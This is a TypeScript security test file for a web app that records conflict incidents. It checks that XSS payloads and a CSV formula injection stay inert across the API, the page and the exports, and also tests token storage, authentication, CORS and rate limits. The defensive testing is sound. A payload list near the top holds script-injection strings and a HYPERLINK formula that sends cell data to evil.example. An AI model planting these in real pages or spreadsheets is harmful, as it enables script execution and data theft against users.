// The web surface against a hostile user. What src/server/auth.test.ts, read.test.ts and test/web/browser.test.ts
// already pin (401 on every write, hash-only tokens, timingSafeEqual on every token, 429 on a burst, CSP,
// payloads inert in a real browser) is not repeated; this file adds: payloads arriving through ingest and
// review and leaving through every answer and export, a token's secret absent from the database files, 401
// over a real socket, a rate limit that X-Forwarded-For cannot reset, no CORS, and no HTML sink in the web app.
import assert from 'node:assert/strict';
import { readFileSync, readdirSync } from 'node:fs';
import type { AddressInfo } from 'node:net';
import { connect } from 'node:net';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import type { FastifyInstance } from 'fastify';
import { build } from '../../src/server/app.js';
import { WEB_MODULES } from '../../src/server/static.js';
import { hashToken } from '../../src/server/tokens.js';
import { openStore } from '../../src/store/index.js';
import type { Store } from '../../src/store/types.js';
import { runCli } from '../cli/run-cli.js';
import { ANALYST_TOKEN, ROOT, seedLedger, snapshotOf, tempDir } from './ledger.js';

const PAYLOADS = {
  title: '<img src=x onerror="alert(\'title\')">Attack',
  source: '"><script>alert("source")</script>',
  text: '<script>alert("text")</script>',
  svg: '<svg/onload=alert("svg")>',
  actor: '<b onmouseover=alert("actor")>Gunmen</b>',
  place: '<iframe src="javascript:alert(\'place\')"></iframe>Tarin',
  formula: '=HYPERLINK("http://evil.example/?x="&A1,"open")',
} as const;

const tmp = tempDir('web');
let store: Store;
let app: FastifyInstance;
let incidentId: number;
let documentId: number;
const auth = { authorization: `Bearer ${ANALYST_TOKEN}` };

before(async () => {
  const db = join(tmp.dir, 'ledger.db');
  await seedLedger(db);
  store = await openStore(db);
  app = await build({ store, rateLimit: { burst: 1000, perSecond: 100 } });
  const doc = {
    id: 'hostile', title: PAYLOADS.title, source: PAYLOADS.formula, publishedAt: '2024-05-20',
    text: `${PAYLOADS.text} Gunmen killed 4 villagers in Kano on Monday, police said. ${PAYLOADS.svg} ${PAYLOADS.source}`,
  };
  const r = await app.inject({ method: 'POST', url: '/api/ingest', headers: { ...auth, 'content-type': 'application/json' }, payload: JSON.stringify([doc]) });
  assert.equal(r.statusCode, 200, r.body);
  const item = r.json().items[0];
  assert.equal(item.status, 'added', r.body);
  documentId = item.documentId;
  incidentId = item.created[0] ?? item.merged[0];
  assert.ok(incidentId, `the hostile report made an incident: ${r.body}`);
  const patch = await app.inject({
    method: 'PATCH', url: `/api/incidents/${incidentId}`, headers: { ...auth, 'content-type': 'application/json' },
    payload: JSON.stringify({
      actors: [{ name: PAYLOADS.actor, role: 'perpetrator' }, { name: PAYLOADS.formula, role: 'victim' }],
      location: { name: PAYLOADS.place, admin1: PAYLOADS.svg, country: 'Nigeria', countryCode: 'NG', lat: 11.8, lon: 13.15, precision: 'exact' },
    }),
  });
  assert.equal(patch.statusCode, 200, patch.body);
});
after(async () => {
  await app.close();
  await store.close();
  tmp.remove();
});

/** The payloads found in a body, as written or as a JSON string literal writes them (quotes escaped). */
const everyPayload = (body: string) => Object.values(PAYLOADS).filter((p) => body.includes(p) || body.includes(JSON.stringify(p).slice(1, -1)));

describe('hostile text in, inert data out', () => {
  test('the API answers the payloads verbatim as JSON strings, with nosniff and the CSP, never as HTML', async () => {
    for (const url of [`/api/incidents/${incidentId}`, `/api/documents/${documentId}`, '/api/incidents?limit=500', `/api/audit?incident=${incidentId}`, '/api/export?format=jsonl', '/api/export?format=geojson']) {
      const r = await app.inject({ url });
      assert.equal(r.statusCode, 200, url);
      assert.match(r.headers['content-type'] as string, /^application\/(json|x-ndjson|geo\+json)/, url);
      assert.equal(r.headers['x-content-type-options'], 'nosniff', url);
      assert.match(r.headers['content-security-policy'] as string, /script-src 'self'/, url);
      assert.ok(everyPayload(r.body).length > 0, `${url} carries the data`);
    }
    const incident = (await app.inject({ url: `/api/incidents/${incidentId}` })).json().incident;
    assert.equal(incident.location.name, PAYLOADS.place);
    assert.deepEqual(incident.actors.filter((a: { documentId: number | null }) => a.documentId === null).map((a: { name: string }) => a.name), [PAYLOADS.actor, PAYLOADS.formula]);
  });

  test('the page, its stylesheet and every web module are fixed files: no payload, and the same bytes whatever the query', async () => {
    const plain = await app.inject({ url: '/' });
    const poisoned = await app.inject({ url: `/?q=${encodeURIComponent(PAYLOADS.text)}&incident=${encodeURIComponent(PAYLOADS.svg)}` });
    assert.equal(poisoned.body, plain.body);
    for (const url of ['/', '/style.css', ...WEB_MODULES.map((m) => `/app/${m}.js`)]) {
      const r = await app.inject({ url });
      assert.equal(r.statusCode, 200, url);
      assert.deepEqual(everyPayload(r.body), [], url);
    }
  });

  test('a payload in the path comes back only inside a JSON error', async () => {
    for (const url of [`/${encodeURIComponent(PAYLOADS.text)}`, `/api/${encodeURIComponent(PAYLOADS.svg)}`, `/app/${encodeURIComponent(PAYLOADS.title)}.js`]) {
      const r = await app.inject({ url });
      assert.equal(r.statusCode, 404, url);
      assert.match(r.headers['content-type'] as string, /^application\/json/, url);
      assert.equal(r.headers['x-content-type-options'], 'nosniff');
    }
  });

  test('CSV exports are attachments and never start a cell with a formula', async () => {
    for (const format of ['acled-csv', 'ucdp-csv']) {
      const r = await app.inject({ url: `/api/export?format=${format}` });
      assert.match(r.headers['content-type'] as string, /^text\/csv/);
      assert.match(r.headers['content-disposition'] as string, /^attachment; filename="sitrep-incidents\.[a-z.]+"$/);
      const cells = r.body.split(/\r\n/).flatMap((line) => line.match(/("(?:[^"]|"")*"|[^,]*)(?:,|$)/g) ?? []).map((c) => c.replace(/,$/, '').replace(/^"|"$/g, ''));
      const formulas = cells.filter((c) => /^[=+@\t\r]/.test(c) || /^-[^\d]/.test(c));
      assert.deepEqual(formulas, [], `${format} cells that a spreadsheet would run`);
      assert.ok(r.body.includes("'=HYPERLINK"), `${format} keeps the text, defused`);
    }
  });
});

describe('tokens at rest', () => {
  test('a token made with `sitrep token create` is printed once and appears nowhere in the database files, only its sha256', async () => {
    const db = join(tmp.dir, 'tokens.db');
    const made = await runCli(['token', 'create', '--name', 'field analyst', '--db', db]);
    assert.equal(made.code, 0, made.stderr);
    const secret = made.stdout.trim();
    assert.match(secret, /^sitrep_[A-Za-z0-9_-]{43}$/);
    assert.ok(!made.stderr.includes(secret), 'not on stderr');
    const listed = await runCli(['token', 'list', '--json', '--db', db]);
    assert.ok(!listed.stdout.includes(secret) && !listed.stdout.includes(hashToken(secret)), 'the list shows neither the secret nor its hash');
    const files = readdirSync(tmp.dir).filter((f) => f.startsWith('tokens.db')).map((f) => readFileSync(join(tmp.dir, f)));
    const all = Buffer.concat(files);
    assert.ok(all.length > 0);
    assert.equal(all.indexOf(secret), -1, 'the secret is not in the database files (WAL included)');
    assert.equal(all.indexOf(secret.slice(7)), -1, 'nor its random part');
    assert.notEqual(all.indexOf(hashToken(secret)), -1, 'its hash is');
  });
});

describe('writes over a real socket', () => {
  let base: string;
  let port: number;
  before(async () => {
    await app.listen({ port: 0, host: '127.0.0.1' });
    port = (app.server.address() as AddressInfo).port;
    base = `http://127.0.0.1:${port}`;
    await store.createToken('revoked', hashToken('sitrep_revoked-token-abcdefghijklmnopqrstuvwxyz0123456789'));
    await store.revokeToken('revoked');
  });

  test('no token, a revoked token, another scheme, a cookie or a token with junk after it: 401 and nothing written', async () => {
    const baseline = await snapshotOf(store);
    const attempts: Record<string, string>[] = [
      {},
      { authorization: 'Bearer' },
      { authorization: 'Bearer sitrep_revoked-token-abcdefghijklmnopqrstuvwxyz0123456789' },
      { authorization: `Basic ${Buffer.from(`analyst:${ANALYST_TOKEN}`).toString('base64')}` },
      { authorization: `Token ${ANALYST_TOKEN}` },
      { authorization: `Bearer ${ANALYST_TOKEN}x` },
      { authorization: `Bearer ${ANALYST_TOKEN.slice(0, -1)}` },
      { authorization: `Bearer ${ANALYST_TOKEN} ${ANALYST_TOKEN}` },
      { cookie: `token=${ANALYST_TOKEN}; session=${ANALYST_TOKEN}` },
      { 'x-api-key': ANALYST_TOKEN },
    ];
    for (const headers of attempts) {
      const r = await fetch(`${base}/api/incidents/${incidentId}/confirm`, { method: 'POST', headers });
      assert.equal(r.status, 401, JSON.stringify(headers));
      assert.match(r.headers.get('www-authenticate') ?? '', /^Bearer/);
    }
    assert.deepEqual(await snapshotOf(store), baseline);
  });

  test('of two Authorization headers the first counts: a bad one before a good one is a 401', async () => {
    const raw = await new Promise<string>((resolve, reject) => {
      const socket = connect(port, '127.0.0.1', () => {
        socket.end(`POST /api/incidents/${incidentId}/confirm HTTP/1.1\r\nHost: 127.0.0.1\r\nAuthorization: Bearer sitrep_wrong\r\nAuthorization: Bearer ${ANALYST_TOKEN}\r\nConnection: close\r\nContent-Length: 0\r\n\r\n`);
      });
      let data = '';
      socket.on('data', (d) => (data += d));
      socket.on('end', () => resolve(data));
      socket.on('error', reject);
    });
    assert.match(raw, /^HTTP\/1\.1 (401|400) /);
  });

  test('no CORS: another origin gets no Access-Control-Allow-Origin, and a preflight is not granted', async () => {
    const read = await fetch(`${base}/api/incidents`, { headers: { origin: 'https://evil.example' } });
    assert.equal(read.status, 200);
    assert.equal(read.headers.get('access-control-allow-origin'), null);
    const preflight = await fetch(`${base}/api/incidents/${incidentId}/confirm`, { method: 'OPTIONS', headers: { origin: 'https://evil.example', 'access-control-request-method': 'POST', 'access-control-request-headers': 'authorization' } });
    assert.ok(preflight.status >= 400, `preflight answered ${preflight.status}`);
    assert.equal(preflight.headers.get('access-control-allow-origin'), null);
    assert.equal(preflight.headers.get('access-control-allow-headers'), null);
  });
});

describe('rate limits that headers cannot reset', () => {
  test('rotating X-Forwarded-For neither resets the write limit nor the failed sign-in limit', async () => {
    const limited = await build({ store, rateLimit: { burst: 3, perSecond: 0.01 } });
    try {
      const codes: number[] = [];
      for (let k = 0; k < 5; k++) {
        codes.push((await limited.inject({ method: 'GET', url: '/api/session', headers: { ...auth, 'x-forwarded-for': `203.0.113.${k}`, 'x-real-ip': `198.51.100.${k}` } })).statusCode);
      }
      assert.deepEqual(codes, [200, 200, 200, 429, 429]);
      const guesses: number[] = [];
      for (let k = 0; k < 5; k++) {
        guesses.push((await limited.inject({ method: 'GET', url: '/api/session', remoteAddress: '192.0.2.77', headers: { authorization: `Bearer sitrep_guess-${k}`, 'x-forwarded-for': `203.0.113.${k}` } })).statusCode);
      }
      assert.deepEqual(guesses, [401, 401, 401, 429, 429]);
    } finally {
      await limited.close();
    }
  });

  test('one token is limited across client addresses', async () => {
    const limited = await build({ store, rateLimit: { burst: 3, perSecond: 0.01 } });
    try {
      const codes: number[] = [];
      for (let k = 0; k < 5; k++) codes.push((await limited.inject({ method: 'GET', url: '/api/session', remoteAddress: `192.0.2.${k + 1}`, headers: auth })).statusCode);
      assert.deepEqual(codes, [200, 200, 200, 429, 429]);
      assert.match((await limited.inject({ method: 'GET', url: '/api/session', remoteAddress: '192.0.2.99', headers: auth })).json().error.message, /this token/);
    } finally {
      await limited.close();
    }
  });
});

describe('the web app has no HTML sink', () => {
  // The browser test shows payloads stay inert in chromium for the views it drives; this reads every module,
  // so a view added later cannot render ledger data as markup unnoticed.
  test('no module assigns innerHTML/outerHTML, inserts HTML, writes the document, evaluates strings or sets an on* attribute', () => {
    const sinks = /\.(innerHTML|outerHTML)\s*[+]?=|insertAdjacentHTML|document\.write|\beval\s*\(|new Function\s*\(|setAttribute\(\s*['"`]on|\.srcdoc\s*=|createContextualFragment|DOMParser/;
    const dir = join(ROOT, 'src', 'web');
    const modules = readdirSync(dir).filter((f) => f.endsWith('.ts') && !f.endsWith('.test.ts'));
    assert.ok(modules.length >= WEB_MODULES.length);
    for (const f of modules) {
      const code = readFileSync(join(dir, f), 'utf8').replace(/\/\/.*$/gm, '').replace(/\/\*[\s\S]*?\*\//g, '');
      assert.doesNotMatch(code, sinks, f);
    }
  });
});
